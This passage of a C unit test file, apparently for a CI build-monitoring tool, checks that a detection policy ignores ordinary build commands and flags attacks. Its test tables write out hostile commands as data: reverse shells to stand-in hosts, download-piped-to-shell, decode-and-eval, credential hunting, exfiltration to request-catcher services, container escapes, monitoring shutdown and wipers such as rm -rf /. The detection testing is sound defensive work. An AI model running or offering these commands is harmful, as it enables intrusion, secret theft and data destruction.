	{ "/usr/bin/mount", ARGV("mount", "-t", "proc", "proc", "rootfs/proc"), SH_MAKE, NULL },
	{ "/usr/bin/mount", ARGV("mount", "/dev/loop3p1", "/mnt/img"), SH_MAKE, NULL },
	/* docker's own chains, containers' forwarding, listing the rules */
	{ "/usr/sbin/iptables", ARGV("iptables", "--wait", "-t", "nat", "-F", "DOCKER"), SH_MAKE, NULL },
	{ "/usr/sbin/iptables", ARGV("iptables", "-P", "FORWARD", "ACCEPT"), SH_MAKE, NULL },
	{ "/usr/sbin/iptables", ARGV("iptables", "-L", "-n"), SH_MAKE, NULL },
	{ "/usr/sbin/iptables", ARGV("iptables", "-A", "OUTPUT", "-d", "10.0.0.1", "-j", "DROP"),
	  SH_MAKE, NULL },
	{ "/usr/sbin/nft", ARGV("nft", "list", "ruleset"), SH_MAKE, NULL },
	{ "/usr/sbin/ufw", ARGV("ufw", "status"), SH_MAKE, NULL },
	{ "/usr/bin/systemctl", ARGV("systemctl", "restart", "ufw"), SH_MAKE, NULL },
	/* waiting for a docker-in-docker daemon: a GET of its socket */
	{ "/usr/bin/curl",
	  ARGV("curl", "-sf", "--unix-socket", "/var/run/docker.sock", "http://localhost/_ping"),
	  SH_MAKE, NULL },
	{ "/usr/bin/docker", ARGV("docker", "run", "--rm", "--pid=host", "alpine", "ps"), SH_MAKE,
	  NULL },
	/* husky's hooks for the repository, the builtin fsmonitor, a CI identity */
	{ "/usr/bin/git", ARGV("git", "config", "core.hooksPath", ".husky/_"), NPM_ANC, NULL },
	{ "/usr/bin/git", ARGV("git", "config", "--file", ".gitmodules", "submodule.x.url", "u"),
	  SH_MAKE, NULL },
	{ "/usr/bin/git", ARGV("git", "config", "core.fsmonitor", "true"), SH_MAKE, NULL },
	{ "/usr/bin/git", ARGV("git", "config", "--global", "user.email", "ci@example.com"), SH_MAKE,
	  NULL },
	{ "/usr/bin/git", ARGV("git", "config", "--global", "alias.co", "checkout"), SH_MAKE, NULL },
	/* a daemon built and tested in the checkout, and the real one */
	{ "/home/ci/src/openssh/sshd", ARGV("./sshd", "-t", "-f", "sshd_config"), SH_MAKE, NULL },
	{ "/usr/sbin/sshd", ARGV("/usr/sbin/sshd", "-t"), SH_MAKE, NULL },
	/* eval of a local tool's output, and a download kept as data */
	{ "/usr/bin/bash", ARGV("bash", "-c", "eval \"$(ssh-agent -s)\" && ssh-add k"), SH_MAKE, NULL },
	{ "/usr/bin/bash", ARGV("bash", "-c", "eval \"$(pyenv init -)\"; make"), SH_MAKE, NULL },
	{ "/usr/bin/bash", ARGV("bash", "-c", "v=$(curl -s https://x/VERSION); echo $v"), SH_MAKE,
	  NULL },
};

static const struct exec_case attacks[] = {
	{ "/usr/bin/dash", ARGV("sh", "-c", "curl -fsSL http://x | sh"), NPM_ANC,
	  "download-piped-to-shell" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "wget -qO- https://evil.example/i.sh | sudo -E bash -s -- -y"),
	  SH_MAKE, "download-piped-to-shell" },
	{ "/usr/bin/dash", ARGV("sh", "-c", "curl -s https://x/i | /bin/bash"), NPM_ANC,
	  "download-piped-to-shell" },
	{ "/usr/bin/dash", ARGV("sh", "-c", "curl -s https://x/p.py | python3"), NPM_ANC,
	  "download-piped-to-shell" },
	{ "/usr/bin/dash", ARGV("sh", "-c", "bash -c \"$(curl -fsSL https://x/install.sh)\""),
	  SH_MAKE, "download-piped-to-shell" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "source <(curl -s https://x/env)"), SH_MAKE,
	  "download-piped-to-shell" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "eval \"$(curl -fsSL https://x/setup-env)\""), SH_MAKE,
	  "download-piped-to-shell" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"), NPM_ANC,
	  "reverse-shell-dev-tcp" },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c", "exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | while read l; do $l 2>&5 >&5; done"),
	  NPM_ANC, "reverse-shell-dev-tcp" },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c",
	       "exec 5<>/dev/tcp/1.2.3.4/443; while read -r line <&5; do eval \"$line\" >&5 2>&5; done"),
	  NPM_ANC, "reverse-shell-dev-tcp" },
	{ "/usr/bin/nc.traditional", ARGV("nc", "-e", "/bin/sh", "1.2.3.4", "4444"), NPM_ANC,
	  "reverse-shell-netcat" },
	{ "/usr/bin/ncat", ARGV("ncat", "1.2.3.4", "4444", "--sh-exec", "sh"), NPM_ANC,
	  "reverse-shell-netcat" },
	{ "/usr/bin/socat", ARGV("socat", "TCP:1.2.3.4:4444", "EXEC:/bin/bash,pty,stderr"),
	  NPM_ANC, "reverse-shell-socat" },
	{ "/usr/bin/python3.11",
	  ARGV("python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',4444));"
	       "os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"),
	  NPM_ANC, "reverse-shell-interpreter" },
	{ "/dev/shm/x", ARGV("x"), NPM_ANC, "exec-from-shm" },
	{ "/tmp/.../x", ARGV("x"), NPM_ANC, "exec-from-deceptive-path" },
	{ "/tmp/cache /x", ARGV("x"), NPM_ANC, "exec-from-deceptive-path" },
	{ "/tmp/x", ARGV("[kworker/0:1]"), NPM_ANC, "masquerade-kernel-thread" },
	{ "/usr/bin/python3.11", ARGV("python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"),
	  NPM_ANC, "interpreter-decode-eval" },
	{ "/usr/bin/python3.11", ARGV("python3", "-c", "d=b'..';exec(bytes(b ^ 42 for b in d))"),
	  NPM_ANC, "interpreter-decode-eval" },
	{ "/usr/bin/perl", ARGV("perl", "-MMIME::Base64", "-e", "eval decode_base64('cHJpbnQ=')"),
	  NPM_ANC, "interpreter-decode-eval" },
	{ "/usr/bin/node", ARGV("node", "-e", "eval(Buffer.from('Y29uc29sZQ==','base64').toString())"),
	  NPM_ANC, "interpreter-decode-eval" },
	{ "/usr/bin/python3.11",
	  ARGV("python3", "-c", "import base64,os; os.system(base64.b64decode('aWQ=').decode())"),
	  NPM_ANC, "interpreter-decode-eval" },
	{ "/usr/bin/python3.11",
	  ARGV("python3", "-c", "import base64,subprocess; subprocess.run(base64.b64decode(x), shell=True)"),
	  NPM_ANC, "interpreter-decode-eval" },
	{ "/usr/bin/find", ARGV("find", "/home", "-name", "id_rsa"), NPM_ANC, "credential-hunting" },
	{ "/usr/bin/find", ARGV("find", ".", "-name", "*.pem"), NPM_ANC, "credential-hunting" },
	{ "/usr/bin/grep", ARGV("grep", "-rE", "AKIA[0-9A-Z]{16}", "/home"), NPM_ANC,
	  "credential-hunting" },
	{ "/usr/local/bin/trufflehog", ARGV("trufflehog", "filesystem", "/"), NPM_ANC,
	  "credential-hunting" },
	{ "/tmp/.X25-unix/.rsync/a/kswapd0", ARGV("kswapd0"), NPM_ANC, "exec-from-hidden-temp-dir" },
	{ "/tmp/sshd", ARGV("/tmp/sshd", "-D"), NPM_ANC, "masquerade-system-daemon" },
	{ "/var/tmp/systemd-journald", ARGV("systemd-journald"), SH_MAKE,
	  "masquerade-system-daemon" },
	{ "/home/ci/.cache/kworker", ARGV("kworker"), SH_MAKE, "masquerade-system-daemon" },
	{ "/tmp/.cache/x", ARGV("x"), SH_MAKE, "exec-from-hidden-temp-dir" },
	{ "/tmp/bin/helper", ARGV("helper"), ANC("/usr/bin/dash", "/usr/local/bin/pnpm"),
	  "exec-from-temp-during-package-install" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196"),
	  NPM_ANC, "reverse-shell-dev-tcp" },
	{ "/opt/x/xmrig", ARGV("xmrig", "-o", "stratum+tcp://pool:3333"), NPM_ANC, "crypto-miner" },
	{ "/usr/bin/git", ARGV("git", "config", "--get-all", "http.https://github.com/.extraheader"),
	  NPM_ANC, "credential-hunting" },
	{ "/usr/bin/git", ARGV("git", "config", "core.fsmonitor", "curl -s https://x/i | sh"), NPM_ANC,
	  "git-config-persistence" },
	{ "/usr/bin/git", ARGV("git", "config", "--global", "core.hooksPath", "/tmp/.hooks"),
	  NPM_ANC, "git-config-persistence" },
	{ "/usr/bin/git", ARGV("git", "config", "--system", "alias.st", "!sh -c 'id' && git status"),
	  NPM_ANC, "git-config-persistence" },
	{ "/usr/bin/git",
	  ARGV("git", "config", "--file", "/home/runner/.gitconfig", "core.hooksPath", "/tmp/.h"),
	  NPM_ANC, "git-config-persistence" },
	{ "/usr/bin/grep", ARGV("grep", "-i", "extraheader", ".git/config"), NPM_ANC,
	  "credential-hunting" },
	{ "/usr/bin/systemctl", ARGV("systemctl", "stop", "buildwarden.service"), NPM_ANC,
	  "security-monitoring-stopped" },
	{ "/usr/sbin/service", ARGV("service", "auditd", "stop"), SH_MAKE,
	  "security-monitoring-stopped" },
	{ "/usr/bin/pkill", ARGV("pkill", "-9", "-f", "/usr/bin/falco"), NPM_ANC,
	  "security-monitoring-stopped" },
	{ "/usr/sbin/auditctl", ARGV("auditctl", "-e", "0"), NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/sbin/auditctl", ARGV("auditctl", "-D"), NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/bin/docker", ARGV("docker", "run", "--rm", "-v", "/:/host", "alpine", "chroot", "/host"),
	  NPM_ANC, "container-host-escape" },
	{ "/usr/bin/docker",
	  ARGV("docker", "run", "--rm", "--privileged", "--pid=host", "alpine", "nsenter", "-t", "1",
	       "-m", "sh"),
	  NPM_ANC, "container-host-escape" },
	{ "/usr/bin/podman",
	  ARGV("podman", "run", "--mount", "type=bind,source=/,target=/h", "alpine", "sh"), SH_MAKE,
	  "container-host-escape" },
	{ "/usr/bin/nsenter", ARGV("nsenter", "--target", "1", "--mount", "--pid", "sh"), NPM_ANC,
	  "container-host-escape" },
	{ "/usr/sbin/chroot", ARGV("chroot", "/proc/1/root", "sh"), NPM_ANC, "container-host-escape" },
	{ "/usr/bin/curl",
	  ARGV("curl", "-s", "--unix-socket", "/var/run/docker.sock", "-X", "POST", "-H",
	       "Content-Type: application/json", "-d", "{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/h\"]}}",
	       "http://localhost/containers/create"),
	  NPM_ANC, "container-host-escape" },
	{ "/usr/bin/socat", ARGV("socat", "-", "UNIX-CONNECT:/run/docker.sock"), NPM_ANC,
	  "container-host-escape" },
	{ "/usr/bin/systemd-run", ARGV("systemd-run", "--on-active=3600", "/tmp/.x/agent"), NPM_ANC,
	  "job-escape-to-service-manager" },
	{ "/usr/sbin/useradd", ARGV("useradd", "-o", "-u", "0", "-g", "0", "-M", "sysbackup"), NPM_ANC,
	  "uid0-account-created" },
	{ "/usr/sbin/usermod", ARGV("usermod", "--uid=0", "--non-unique", "ci"), NPM_ANC,
	  "uid0-account-created" },
	{ "/usr/bin/systemd-run", ARGV("systemd-run", "--user", "--unit", "cache", "sh", "-c", "x"),
	  NPM_ANC, "job-escape-to-service-manager" },
	{ "/usr/bin/at", ARGV("at", "now", "+", "1", "minute"), NPM_ANC,
	  "job-escape-to-service-manager" },
	{ "/usr/sbin/bpftool", ARGV("bpftool", "link", "detach", "id", "12"), NPM_ANC,
	  "security-monitoring-stopped" },
	{ "/usr/sbin/bpftool", ARGV("bpftool", "map", "delete", "id", "7", "key", "1", "0", "0", "0"),
	  NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/bin/chattr", ARGV("chattr", "+i", "/etc/cron.d/sync"), NPM_ANC, "file-made-immutable" },
	{ "/usr/bin/chattr", ARGV("chattr", "-R", "-ia", "/root/.ssh"), NPM_ANC, "file-made-immutable" },
	{ "/usr/local/bin/ngrok", ARGV("ngrok", "tcp", "22"), NPM_ANC, "remote-access-tunnel" },
	{ "/tmp/r/bin/Runner.Listener",
	  ARGV("/tmp/r/bin/Runner.Listener", "configure", "--url", "https://github.com/a/b", "--token",
	       "AAAA", "--name", "SHA1HULUD", "--unattended"),
	  NPM_ANC, "remote-access-tunnel" },
	{ "/tmp/r/bin/Runner.Listener", ARGV("./bin/Runner.Listener", "run"), NPM_ANC,
	  "remote-access-tunnel" },
	{ "/usr/bin/gitlab-runner",
	  ARGV("gitlab-runner", "register", "--non-interactive", "--url", "https://gitlab.com/",
	       "--token", "glrt-x"),
	  NPM_ANC, "remote-access-tunnel" },
	/* busybox's applets are judged as the tools they are */
	{ "/bin/busybox", ARGV("nc", "203.0.113.9", "4444", "-e", "/bin/sh"), NPM_ANC,
	  "reverse-shell-netcat" },
	{ "/bin/busybox", ARGV("busybox", "nc", "203.0.113.9", "4444", "-e", "/bin/sh"), NPM_ANC,
	  "reverse-shell-netcat" },
	{ "/usr/bin/busybox", ARGV("/usr/bin/busybox", "shred", "-u", "/home/ci/.ssh/id_rsa"),
	  NPM_ANC, "data-destruction" },
	/* exfiltration services by URL, however the name is resolved */
	{ "/usr/bin/curl",
	  ARGV("curl", "--resolve", "webhook.site:443:127.0.0.1", "-d", "@-",
	       "https://webhook.site/5e3b0c4a-9d1f"),
	  NPM_ANC, "exfiltration-service-url" },
	{ "/usr/bin/python3.11",
	  ARGV("python3", "-c",
	       "import os,urllib.request as u;u.urlopen('https://eo1a2b3c.m.pipedream.net',str(os.environ).encode())"),
	  NPM_ANC, "exfiltration-service-url" },
	{ "/usr/bin/wget", ARGV("wget", "--post-file=/tmp/e", "http://abc123.oast.fun/x"), NPM_ANC,
	  "exfiltration-service-url" },
	/* ICMP payloads */
	{ "/usr/bin/ping", ARGV("ping", "-c", "1", "-p", "414b4941", "203.0.113.5"), NPM_ANC,
	  "exfiltration-over-icmp" },
	{ "/usr/sbin/hping3", ARGV("hping3", "-1", "-E", "/tmp/secrets", "-d", "1400", "h"), NPM_ANC,
	  "exfiltration-over-icmp" },
	/* a miner renamed: its options and its wallet give it away */
	{ "/tmp/.x/kworker",
	  ARGV("kworker", "-o", "pool.example:443", "-u",
	       "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
	       "-k", "--tls"),
	  NPM_ANC, "crypto-miner" },
	{ "/tmp/.x/cache-warmer", ARGV("cache-warmer", "-a", "rx/0", "--donate-level=1", "-B"), NPM_ANC,
	  "crypto-miner" },
	/* stored tokens printed by their own tools */
	{ "/usr/bin/npm", ARGV("npm", "config", "get", "//registry.npmjs.org/:_authToken"), NPM_ANC,
	  "credential-hunting" },
	{ "/usr/bin/gh", ARGV("gh", "auth", "token"), NPM_ANC, "credential-hunting" },
	{ "/usr/local/bin/aws", ARGV("aws", "configure", "get", "aws_secret_access_key"), NPM_ANC,
	  "credential-hunting" },
	/* keys minted for later */
	{ "/usr/local/bin/aws", ARGV("aws", "iam", "create-access-key", "--user-name", "ci-deploy"),
	  NPM_ANC, "cloud-account-persistence" },
	{ "/usr/bin/gcloud",
	  ARGV("gcloud", "iam", "service-accounts", "keys", "create", "k.json", "--iam-account", "x"),
	  NPM_ANC, "cloud-account-persistence" },
	{ "/usr/bin/az", ARGV("az", "ad", "sp", "credential", "reset", "--id", "x"), NPM_ANC,
	  "cloud-account-persistence" },
	/* scanners and post-exploitation kits */
	{ "/usr/bin/nmap", ARGV("nmap", "-sT", "10.0.0.0/24"), NPM_ANC, "offensive-tool-run" },
	{ "/usr/bin/bash", ARGV("bash", "/tmp/linpeas.sh", "-a"), NPM_ANC, "offensive-tool-run" },
	{ "/tmp/x/deepce.sh", ARGV("./deepce.sh"), NPM_ANC, "offensive-tool-run" },
	{ "/tmp/pspy64", ARGV("/tmp/pspy64", "-pf"), NPM_ANC, "offensive-tool-run" },
	/* the host taken down; mandatory access control switched off */
	{ "/usr/sbin/shutdown", ARGV("shutdown", "-h", "0"), NPM_ANC, "host-shutdown" },
	{ "/usr/bin/systemctl", ARGV("systemctl", "reboot", "--force"), NPM_ANC, "host-shutdown" },
	{ "/usr/sbin/telinit", ARGV("telinit", "0"), NPM_ANC, "host-shutdown" },
	{ "/usr/sbin/setenforce", ARGV("setenforce", "0"), NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/sbin/aa-teardown", ARGV("aa-teardown"), NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/bin/systemctl", ARGV("systemctl", "stop", "apparmor"), NPM_ANC,
	  "security-monitoring-stopped" },
	/* every secret listed; a process hidden */
	{ "/usr/bin/kubectl", ARGV("kubectl", "get", "secrets", "-A", "-o", "yaml"), NPM_ANC,
	  "credential-hunting" },
	{ "/usr/local/bin/aws", ARGV("aws", "secretsmanager", "list-secrets"), NPM_ANC,
	  "credential-hunting" },
	{ "/usr/bin/mount", ARGV("mount", "--bind", "/tmp/.e", "/proc/31337"), NPM_ANC,
	  "process-hidden" },
	/* other processes' environments listed */
	{ "/usr/bin/ps", ARGV("ps", "auxeww"), NPM_ANC, "credential-hunting" },
	/* Shai-Hulud 2.0's wiper, and the others' */
	{ "/usr/bin/shred", ARGV("shred", "-uvz", "-n", "1", "/home/ci/.ssh/id_rsa"), NPM_ANC,
	  "data-destruction" },
	{ "/usr/bin/rm", ARGV("rm", "-rf", "--no-preserve-root", "/"), NPM_ANC, "data-destruction" },
	{ "/usr/bin/rm", ARGV("rm", "-r", "-f", "/home/runner/"), NPM_ANC, "data-destruction" },
	{ "/usr/bin/rm", ARGV("rm", "--recursive", "/root/*"), NPM_ANC, "data-destruction" },
	{ "/usr/bin/find", ARGV("find", "/home/ci", "-type", "f", "-writable", "-delete"), NPM_ANC,
	  "data-destruction" },
	{ "/usr/bin/find",
	  ARGV("find", "/home/ci/", "-type", "f", "-exec", "/usr/bin/shred", "-u", "{}", "+"),
	  NPM_ANC, "data-destruction" },
	{ "/usr/bin/cloudflared", ARGV("cloudflared", "tunnel", "--url", "http://localhost:8080"),
	  NPM_ANC, "remote-access-tunnel" },
	{ "/usr/bin/tmate", ARGV("tmate", "-F"), NPM_ANC, "remote-access-tunnel" },
	{ "/usr/bin/ssh", ARGV("ssh", "-fNR", "2222:localhost:22", "u@h"), NPM_ANC,
	  "remote-access-tunnel" },
	{ "/usr/bin/ssh", ARGV("ssh", "-D", "1080", "u@h"), NPM_ANC, "remote-access-tunnel" },
	{ "/usr/bin/ssh", ARGV("ssh", "-o", "RemoteForward 9000 localhost:9000", "u@h"), NPM_ANC,
	  "remote-access-tunnel" },
	{ "/usr/bin/mount", ARGV("mount", "/dev/nvme0n1p1", "/mnt/host"), NPM_ANC,
	  "container-host-escape" },
	{ "/usr/sbin/debugfs", ARGV("debugfs", "-w", "/dev/sda1"), NPM_ANC, "container-host-escape" },
	{ "/usr/sbin/iptables", ARGV("iptables", "-F"), NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/sbin/iptables-nft", ARGV("iptables-nft", "-t", "filter", "--flush", "OUTPUT"), NPM_ANC,
	  "security-monitoring-stopped" },
	{ "/usr/sbin/ip6tables", ARGV("ip6tables", "-P", "OUTPUT", "ACCEPT"), NPM_ANC,
	  "security-monitoring-stopped" },
	{ "/usr/sbin/nft", ARGV("nft", "flush", "ruleset"), NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/sbin/ufw", ARGV("ufw", "disable"), NPM_ANC, "security-monitoring-stopped" },
	{ "/usr/bin/systemctl", ARGV("systemctl", "stop", "firewalld"), NPM_ANC,
	  "security-monitoring-stopped" },
};

static void run_cases(const struct bw_policy *p, const struct exec_case *c, size_t n)
{
	const struct bw_rule *out[8];
	struct fx f;

	for (size_t i = 0; i < n; i++) {
		size_t m = policy_match(p, fx_set(&f, c[i].exe, c[i].argv, c[i].anc), out, 8);

		if (!c[i].rule && m)
			fail_msg("ordinary exec %s (%s ...) matched rule '%s'", c[i].exe,
				 c[i].argv[0], policy_rule_name(out[0]));
		if (c[i].rule && !matches(p, &f.e, c[i].rule))
			fail_msg("attack %zu (%s %s) did not match rule '%s' (%zu other matches)",
				 i, c[i].exe, c[i].argv[1] ? c[i].argv[1] : "", c[i].rule, m);
	}
}

/* Non-exec events of a process (curl under dash under make, see ev_init). */
struct event_case {
	enum bw_event_kind kind;
	const char *op;	   /* file, privilege */
	const char *path;  /* file: path; dns: qname; connect: address */
	uint32_t target;   /* file, privilege: target pid; connect: port; dns: qtype */
	bool in_job;
	const char *rule;  /* expected rule, NULL for none */
};

static const struct event_case ordinary_events[] = {
	/* ordinary names and ports: the default's network rules are about
	 * encoded labels, resolvers and DoH/DoT (tests/unit/test_dnsx.c) */
	{ BW_ON_CONNECT, NULL, "140.82.112.3", 443, false, NULL },
	{ BW_ON_CONNECT, NULL, "127.0.0.53", 53, false, NULL },
	{ BW_ON_DNS, NULL, "github.com", 1, false, NULL },
	{ BW_ON_DNS, NULL, "ipinfo.io.example.com", 1, false, NULL },
	{ BW_ON_DNS, NULL, "_acme-challenge.example.com", 16, false, NULL },
	/* sanitizers and test harnesses read their own and their children's maps */
	{ BW_ON_FILE, "open-read", "/proc/4242/maps", 4242, true, NULL },
	{ BW_ON_FILE, "open-read", "/proc/4300/environ", 4300, true, NULL },
	{ BW_ON_FILE, "open-read", "/proc/self/maps", 4242, true, NULL },
	{ BW_ON_FILE, "open-write", "/proc/4300/mem", 4300, true, NULL },
	/* other processes' status, cgroups and mounts are public */
	{ BW_ON_FILE, "open-read", "/proc/1/stat", 1, false, NULL },
	{ BW_ON_FILE, "open-read", "/proc/1/cgroup", 1, false, NULL },
	{ BW_ON_FILE, "open-read", "/proc/1/mountinfo", 1, false, NULL },
	{ BW_ON_FILE, "open-write", "/home/ci/src/project/build/foo.o", 0, false, NULL },
	{ BW_ON_FILE, "rename", "/home/ci/src/project/config.h.tmp", 0, false, NULL },
	{ BW_ON_FILE, "unlink", "/home/ci/src/project/conftest.c", 0, false, NULL },
	/* LeakSanitizer and debuggers on the job's own processes, TRACEME */
	{ BW_ON_PRIVILEGE, "ptrace", NULL, 4243, true, NULL },
	{ BW_ON_PRIVILEGE, "ptrace", NULL, 0, false, NULL },
	/* sudo, container tools, JITs */
	{ BW_ON_PRIVILEGE, "setuid", NULL, 0, false, NULL },
	{ BW_ON_PRIVILEGE, "setgid", NULL, 0, false, NULL },
	{ BW_ON_PRIVILEGE, "mount", NULL, 0, false, NULL },
	{ BW_ON_PRIVILEGE, "memfd", NULL, 0, false, NULL },
	/* names that only end like a pool's or a catcher's; the address beside the
	 * metadata service; a pod's CA certificate; git init's sample hooks */
	{ BW_ON_DNS, NULL, "supportxmr.com.example.net", 1, false, NULL },
	{ BW_ON_DNS, NULL, "notwebhook.site", 1, false, NULL },
	{ BW_ON_CONNECT, NULL, "169.254.169.253", 53, false, NULL },
	{ BW_ON_FILE, "open-read", "/run/secrets/kubernetes.io/serviceaccount/ca.crt", 0, false,
	  NULL },
	{ BW_ON_FILE, "open-write", "/home/ci/src/project/.git/hooks/pre-commit.sample", 0, false,
	  NULL },
};

static const struct event_case attack_events[] = {
	{ BW_ON_FILE, "open-read", "/proc/1234/environ", 1234, false,
	  "read-memory-of-process-outside-job" },
	{ BW_ON_FILE, "open-read", "/proc/1234/maps", 1234, false,
	  "read-memory-of-process-outside-job" },
	{ BW_ON_FILE, "open-read", "/proc/1234/task/1240/mem", 1234, false,
	  "read-memory-of-process-outside-job" },
	{ BW_ON_FILE, "open-write", "/proc/1234/mem", 1234, false,
	  "read-memory-of-process-outside-job" },
	{ BW_ON_DNS, NULL, "ipinfo.io", 1, false, "external-ip-lookup" },
	{ BW_ON_DNS, NULL, "api.ipify.org", 28, false, "external-ip-lookup" },
	{ BW_ON_PRIVILEGE, "ptrace", NULL, 1234, false, "ptrace-outside-job" },
	{ BW_ON_PRIVILEGE, "signal-agent", NULL, 777, false, "signal-to-agent" },
	{ BW_ON_PRIVILEGE, "module", NULL, 0, false, "kernel-module-load" },
	/* bpf() is recorded, not alerted on: builds that test eBPF tools use it */
	{ BW_ON_PRIVILEGE, "bpf", NULL, 0, false, NULL },
	{ BW_ON_FILE, "open-read", "/run/secrets/kubernetes.io/serviceaccount/token", 0, false,
	  "credential-file-access" },
	{ BW_ON_FILE, "open-write", "/home/ci/src/project/.git/hooks/post-checkout", 0, false,
	  "persistence-write" },
	{ BW_ON_CONNECT, NULL, "169.254.169.254", 80, false, "cloud-metadata-access" },
	/* a public mining pool, a request catcher or tunnel, whoever asks */
	{ BW_ON_DNS, NULL, "gulf.moneroocean.stream", 1, false, "crypto-miner-pool-dns" },
	{ BW_ON_DNS, NULL, "supportxmr.com.", 28, false, "crypto-miner-pool-dns" },
	{ BW_ON_DNS, NULL, "webhook.site", 1, false, "exfiltration-service-dns" },
	{ BW_ON_DNS, NULL, "c59eq0pboo2h.oast.fun", 1, false, "exfiltration-service-dns" },
	{ BW_ON_DNS, NULL, "abc.ngrok-free.app", 28, false, "exfiltration-service-dns" },
};

static void run_event_cases(const struct bw_policy *p, const struct event_case *c, size_t n)
{
	const struct bw_rule *out[8];
	struct bw_event_info *e;
	struct evx x;

	for (size_t i = 0; i < n; i++) {
		size_t m;

		if (c[i].kind == BW_ON_CONNECT)
			e = ev_connect(&x, c[i].path, (uint16_t)c[i].target, "tcp", NULL, 0);
		else if (c[i].kind == BW_ON_DNS)
			e = ev_dns(&x, c[i].path, (uint16_t)c[i].target);
		else if (c[i].kind == BW_ON_FILE)
			e = ev_file(&x, c[i].op, c[i].path, NULL, c[i].target, c[i].in_job);
		else
			e = ev_priv(&x, c[i].op, c[i].target, c[i].in_job);
		m = policy_match_event(p, e, out, 8);
		if (!c[i].rule && m)
			fail_msg("ordinary %s event %zu (%s %s) matched rule '%s'",
				 policy_on_name(c[i].kind), i, c[i].op ? c[i].op : "",
				 c[i].path ? c[i].path : "", policy_rule_name(out[0]));
		if (c[i].rule && !ev_matches(p, e, c[i].rule))
			fail_msg("attack event %zu (%s %s) did not match rule '%s'", i,
				 c[i].op ? c[i].op : "", c[i].path ? c[i].path : "", c[i].rule);
	}
}

static void test_default_silent_on_builds(void **state)
{
	struct bw_policy *p = NULL;

	assert_int_equal(policy_load_default(&p, stderr), 0);
	run_cases(p, ordinary, sizeof(ordinary) / sizeof(ordinary[0]));
	run_event_cases(p, ordinary_events, sizeof(ordinary_events) / sizeof(ordinary_events[0]));
	/* DNS exfiltration and DoH/DoT rules (connect and DNS are recorded
	 * by default anyway; only file hooks follow the policy) */
	assert_true(policy_has_rules_on(p, BW_ON_CONNECT));
	assert_true(policy_has_rules_on(p, BW_ON_DNS));
	assert_true(policy_has_rules_on(p, BW_ON_FILE));
	assert_true(policy_has_rules_on(p, BW_ON_PRIVILEGE));
	policy_free(p);
}

/*
 * One policy, several owners (a daemon's jobs share what it compiled):
 * each policy_free drops one, the policy still judges for the others,
 * and the last frees it (the sanitizer build checks both).
 */
static void test_shared_policy(void **state)
{
	struct bw_policy *p = NULL, *q, *r;

	(void)state;
	assert_int_equal(policy_load_default(&p, stderr), 0);
	q = policy_ref(p);
	r = policy_ref(p);
	assert_ptr_equal(q, p);
	assert_ptr_equal(r, p);
	policy_free(p);
	policy_free(q);
	run_cases(r, ordinary, sizeof(ordinary) / sizeof(ordinary[0]));
	run_event_cases(r, ordinary_events, sizeof(ordinary_events) / sizeof(ordinary_events[0]));
	assert_true(policy_has_rules_on(r, BW_ON_FILE));
	policy_free(r);
	policy_free(NULL);
}

/* The default's behaviour rules, on the facts provenance gives them. */
static void test_default_provenance(void **state)
{
	struct bw_policy *p = NULL;
	const struct bw_rule *out[8];
	struct bw_event_info *e;
	struct evx x;
	struct fx f;

	assert_int_equal(policy_load_default(&p, stderr), 0);
	/* a shell reading its program from a pipe a downloader feeds */
	fx_set(&f, "/usr/bin/dash", ARGV("sh"), SH_MAKE);
	f.e.program_from = BW_PROG_STDIN;
	f.e.stdin_prov = BW_PROV_PIPE | BW_PROV_NETWORK;
	assert_true(matches(p, &f.e, "download-piped-to-shell"));
	f.e.stdin_prov = BW_PROV_PIPE | BW_PROV_DECODER;
	assert_true(matches(p, &f.e, "decoded-script-to-shell"));
	/* ... but a pipe of ordinary data, or a program from a file, is not */
	f.e.stdin_prov = BW_PROV_PIPE;
	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
	fx_set(&f, "/usr/bin/python3.11", ARGV("python3", "setup.py"), SH_MAKE);
	f.e.program_from = BW_PROG_FILE;
	f.e.stdin_prov = BW_PROV_PIPE | BW_PROV_NETWORK;
	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
	/* sh -c "$(curl ...)" */
	fx_set(&f, "/usr/bin/bash", ARGV("bash", "-c", "echo hi"), SH_MAKE);
	f.e.program_from = BW_PROG_ARGUMENT;
	f.e.script_prov = BW_PROV_NETWORK;
	assert_true(matches(p, &f.e, "download-piped-to-shell"));
	f.e.script_prov = BW_PROV_DECODER;
	assert_true(matches(p, &f.e, "decoded-script-to-shell"));
	/* a shell on an IP socket, not on a Unix one (systemd's journal) */
	fx_set(&f, "/usr/bin/dash", ARGV("sh", "-i"), NPM_ANC);
	f.e.program_from = BW_PROG_STDIN;
	f.e.stdio_prov = BW_PROV_SOCKET | BW_PROV_PIPE;
	assert_true(matches(p, &f.e, "reverse-shell-socket-stdio"));
	f.e.stdio_prov = BW_PROV_LOCAL_SOCKET;
	assert_int_equal(policy_match(p, &f.e, out, 8), 0);
	/* dropped and executed; a package manager's install is not */
	fx_set(&f, "/tmp/payload", ARGV("payload"), SH_MAKE);
	f.e.exe_prov = BW_PROV_WRITTEN | BW_PROV_NETWORK;
	assert_true(matches(p, &f.e, "dropped-file-executed"));
	f.e.exe_prov = BW_PROV_WRITTEN | BW_PROV_PACKAGE_MANAGER;
	assert_false(matches(p, &f.e, "dropped-file-executed"));
